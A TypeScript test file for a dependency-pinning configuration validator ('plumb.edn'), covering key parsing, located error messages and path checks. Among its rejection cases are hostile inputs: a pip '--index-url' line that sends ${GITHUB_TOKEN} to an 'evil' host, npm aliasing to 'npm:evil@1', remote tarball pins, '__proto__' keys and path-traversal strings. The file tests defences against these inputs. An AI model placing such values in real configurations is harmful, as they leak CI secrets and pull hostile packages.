import { describe, expect, test } from 'vitest';
import { UserError } from '#core/model/errors';
import type { FileRead } from '#core/model/file-tree';
import { repoPath } from '#core/model/repo-path';
import { readPlumbConfig } from '#core/read/manifest/plumb-config';
import { LOCATORS, marked } from '../../../support/manifest.ts';
import { memoryTree } from '../../../support/memory-tree.ts';

const read = (text: string | FileRead, others: Record<string, string> = {}) =>
  readPlumbConfig(memoryTree({ 'plumb.edn': text, ...others }), repoPath('plumb.edn'), LOCATORS, false);

function refusal(text: string | FileRead, others: Record<string, string> = {}): string {
  try {
    read(text, others);
  } catch (error) {
    if (error instanceof UserError) return `${error.message} [${error.hint}]`;
    throw error;
  }
  throw new Error('the configuration was accepted');
}

describe('plumb.edn', () => {
  test('is optional, and everything in it', () => {
    const none = readPlumbConfig(memoryTree({}), repoPath('plumb.edn'), LOCATORS, false);
    expect(none.source).toBeNull();
    const { source, ...empty } = read('{}');
    expect(source?.file).toBe('plumb.edn');
    expect({ source: null, ...empty }).toEqual(none);
  });

  test('every key', () => {
    const config = read(`{:layout :flat
 :pins {:python {"torch" ["torch==2; os_name=='nt'" "torch==3; os_name!='nt'"] :Numpy "2.0"} :node {"zod" "3.0.0" "a>b" "$zod" "c" {"d" "1"}}}
 :node {:version ">=24" :package-manager "pnpm@10.34.0"} :python {:version ">=3.11" :installer :pip}
 :ci {:os [:ubuntu "windows"] :python ["3.11"] :node ["24"] :runners {:gpu "big"} :schedule "0 3 * * *"}
 :heavy [:torch "x"] :legacy ["y"] :services {:globs ["services/*"]} :stubs ["apps/desktop"]
 :import-names {"Foo_Bar" ["foo"]} :rules {:gen-and-diff/drift :warning "gen-and-diff/orphan-file" "off"}
 :exclude ["vendor/**"] :allow ["x @ git+https://e/*"]}`);
    expect(config.layout).toBe('flat');
    expect([...(config.pins.python?.value.keys() ?? [])]).toEqual(['torch', 'Numpy']);
    expect(config.pins.python?.value.get('Numpy')).toEqual({ version: '2.0' });
    expect(config.pins.python?.path).toEqual(['pins', 'python']);
    expect([...(config.pins.node?.value ?? [])]).toEqual([
      ['zod', '3.0.0'],
      ['a>b', '$zod'],
      ['c', { d: '1' }],
    ]);
    expect(config.node).toEqual({
      version: '>=24',
      packageManager: { value: 'pnpm@10.34.0', path: ['node', 'package-manager'] },
    });
    expect(config.python).toEqual({ version: '>=3.11', installer: 'pip' });
    expect(config.ci).toMatchObject({ os: ['ubuntu', 'windows'], runners: { gpu: 'big' } });
    expect(config.heavy).toEqual(['torch', 'x']);
    expect(config.importNames).toEqual(new Map([['foo-bar', ['foo']]]));
    expect(config.rules).toEqual(
      new Map([
        ['gen-and-diff/drift', 'warning'],
        ['gen-and-diff/orphan-file', 'off'],
      ]),
    );
    expect(config.exclude).toEqual(['vendor/**']);
    expect(config.allow).toEqual(['x @ git+https://e/*']);
  });

  test.each([':flat', ':shared-lang', '["packages/*"]', '{:package ["packages/*"]}'])(
    'layout %s',
    (layout) => {
      expect(read(`{:layout ${layout}}`).layout).toBeDefined();
    },
  );

  test.each([
    ['{§:pin {}}', 'unknown key :pin, did you mean :pins?'],
    [
      '{:layout §:flatt}',
      'expected one of :shared-lang, :flat, :apps-services-packages, found the string "flatt", did you mean :flat?',
    ],
    ['{:layout §3}', 'expected :shared-lang, :flat, :apps-services-packages, or globs, found the number 3'],
    ['{:pins §[]}', 'expected {:python … :node …}, or the path of an EDN file, found an empty vector'],
    ['{:pins {§:pyton {}}}', 'unknown key :pyton, did you mean :python?'],
    ['{:pins {:python {"a" §3}}}', 'expected a version, or a vector of requirements, found the number 3'],
    ['{:pins {:python {"a" §">=1"}}}', '">=1" is no version after PEP 440'],
    ['{:pins {:python {"a" §"1.0 --index-url https://x"}}}', 'is no version after PEP 440'],
    [
      // biome-ignore lint/suspicious/noTemplateCurlyInString: pip expands it, nobody here
      '{:pins {:python {"a" [§"--index-url https://evil/${GITHUB_TOKEN}"]}}}',
      'is an option line (--index-url)',
    ],
    ['{:pins {:python {"a" [§"a @ file:///x"]}}}', 'names a URL instead of a version'],
    ['{:pins {:python {"a" [§"a==1 \\\\"]}}}', 'ends with a backslash'],
    ['{:pins {:python {"a" [§"b==1"]}}}', 'the pin of "a" is a requirement of "b"'],
    ['{:pins {:python {"a" [§"a[x]==1"]}}}', 'a pin has extras'],
    [
      '{:pins {:python {§"a[x]" "1"}}}',
      '"a[x]" is no name of a Python distribution: constraints cannot have extras (pip)',
    ],
    ['{:pins {:python {§"a; os_name==\'nt\'" "1"}}}', 'is no name of a Python distribution'],
    ['{:pins {:python {§"a==1\\nb" "1"}}}', 'is no name of a Python distribution'],
    ['{:pins {:python {§:__proto__ "1"}}}', '"__proto__" is no name of a Python distribution'],
    ['{:pins {:python {"a_b" "1" §"A-B" "2"}}}', '"A-B" and "a_b" are one distribution'],
    ['{:pins {:node {"a" §"link:../.."}}}', 'the pin "link:../.." is a linked path'],
    ['{:pins {:node {"a" {"b" §"npm:evil@1"}}}}', 'is another package under this name'],
    ['{:pins {:node {"a" §"https://evil/x.tgz"}}}', 'is a URL'],
    ['{:pins {:node {"a" §"$../x"}}}', 'is a GitHub repository'],
    ['{:pins {:node {§"a\\nb" "1"}}}', '"a\\nb" selects no package'],
    ['{:pins {:node {"a" §""}}}', 'the pin "" is no version'],
    ['{:pins {:node {"a" §"1\u2028"}}}', 'is no version'],
    ['{:pins {:node {§"" "1"}}}', '"" selects no package'],
    ['{:pins {:node {"a" §true}}}', 'a pin is neither a version nor a map of pins'],
    ['{:node {:package-manager §"pnpm@https://evil/pnpm.tgz"}}', 'names no package manager and version'],
    ['{:node {:package-manager §"deno@2"}}', 'names no package manager and version'],
    ['{:node {:version §24}}', 'expected a string, found the number 24'],
    [
      '{:python {:installer §:pipp}}',
      'expected one of :pip, :uv, found the string "pipp", did you mean :pip?',
    ],
    ['{:ci {§:oss []}}', 'unknown key :oss, did you mean :os?'],
    ['{:heavy §"torch"}', 'expected a vector of keywords or strings, found the string "torch"'],
    [
      '{:rules {§:gen-and-diff/drft :off}}',
      'no rule is named "gen-and-diff/drft" (did you mean gen-and-diff/drift?)',
    ],
    ['{:rules {§:nothing/like-it :off}}', 'no rule is named "nothing/like-it"'],
    ['{:rules {§:__proto__ :off}}', 'no rule is named "__proto__"'],
    [
      '{:rules {:gen-and-diff/drift §:fatal}}',
      'expected one of :error, :warning, :notice, :off, found the string "fatal"',
    ],
    ['{:exclude §"vendor"}', 'expected a vector of strings'],
    ['{:allow [§:x]}', 'expected a string, found the keyword :x'],
    ['{:import-names {"a" §"b"}}', 'expected a vector of strings, found the string "b"'],
    ['{:stubs §{}}', 'expected a vector of strings, found a map'],
    ['§[]', 'expected a map, found an empty vector'],
    ['{:pins {:python {"a" "1"} §}', ''],
  ])('%s', (source, complaint) => {
    const { text, place } = marked(source);
    expect(refusal(text)).toContain(complaint === '' ? 'plumb.edn:1:' : `plumb.edn:${place}: `);
    expect(refusal(text)).toContain(complaint);
  });

  test('all that is wrong at once', () => {
    const message = refusal('{:pin 1\n :layoutt 2\n :heavy 3\n :node {:version 4}}');
    expect(message.match(/plumb\.edn:\d:\d+/g)?.sort()).toEqual([
      'plumb.edn:1:2',
      'plumb.edn:2:2',
      'plumb.edn:3:9',
      'plumb.edn:4:18',
    ]);
  });

  test(':allow lets pins through', () => {
    expect(
      read(
        '{:allow ["npm:ok@1" "a @ https://ok/*"] :pins {:python {"a" ["a @ https://ok/a.whl"]} :node {"a" "npm:ok@1"}}}',
      ).pins.node?.value.get('a'),
    ).toBe('npm:ok@1');
    expect(refusal('{:allow ["npm:ok@1"] :pins {:node {"a" "npm:ok@12"}}}')).toContain('npm:ok@12');
  });
});

describe(':pins as a path', () => {
  const PINS = { 'config/pins.edn': '{:python {"a" "1"} :node {"z" "2"}}' };

  test('is read from there, and located there', () => {
    const { pins } = read('{:pins "config/pins.edn"}', PINS);
    expect(pins.source?.file).toBe('config/pins.edn');
    expect(pins.python).toEqual({ value: new Map([['a', { version: '1' }]]), path: ['python'] });
    expect(pins.node?.path).toEqual(['node']);
  });

  test('its complaints stand in it', () => {
    const message = refusal('{:pins "config/pins.edn"}', { 'config/pins.edn': '{:python\n {"a" ">1"}}' });
    expect(message).toContain('config/pins.edn:2:7: ">1" is no version');
    expect(refusal('{:pins "config/pins.edn"}', { 'config/pins.edn': '{' })).toContain('config/pins.edn:1:2');
    expect(refusal('{:pins "config/pins.edn"}', { 'config/pins.edn': '[]' })).toContain(
      'config/pins.edn:1:1: expected a map',
    );
  });

  test.each(['nowhere.edn', 'config'])('%s: the file is not there', (path) => {
    expect(refusal(`{:pins "${path}"}`, PINS)).toContain('plumb.edn:1:8: the pins file ');
  });

  test.each(['../../x', '/etc/x', 'C:..\\\\x', '\\\\\\\\host\\\\share', 'a\\u0000b', 'a/../../x'])(
    '%s: refused',
    (path) => {
      expect(refusal(`{:pins "${path}"}`, PINS)).toMatch(/plumb\.edn:1:8: the path /);
    },
  );
});

describe('the file itself', () => {
  test.each<[string, FileRead, string]>([
    [
      'unreadable',
      { kind: 'unreadable', message: 'is UTF-16', hint: 'convert it' },
      'plumb.edn: is UTF-16 (convert it)',
    ],
    ['not checked out', { kind: 'elsewhere', why: 'sparse' }, 'not checked out here (sparse)'],
  ])('%s', (_, file, message) => {
    expect(refusal(file)).toContain(message);
  });

  test('named with --config must exist', () => {
    expect(() => readPlumbConfig(memoryTree({}), repoPath('x.edn'), LOCATORS, true)).toThrow(
      'x.edn does not exist',
    );
  });

  test('may be CRLF, or TOML and JSON where named', () => {
    expect(read('{:heavy\r\n ["a"]}\r\n').heavy).toEqual(['a']);
    const files = memoryTree({
      'conf/plumb.toml': 'heavy = ["a"]\nstubs = 3\n',
      'plumb.json': '{"heavy": ["b"]}',
    });
    expect(readPlumbConfig(files, repoPath('plumb.json'), LOCATORS, true).heavy).toEqual(['b']);
    expect(() => readPlumbConfig(files, repoPath('conf/plumb.toml'), LOCATORS, true)).toThrow(
      'conf/plumb.toml:2:9: expected a vector of strings, found the number 3',
    );
  });
});
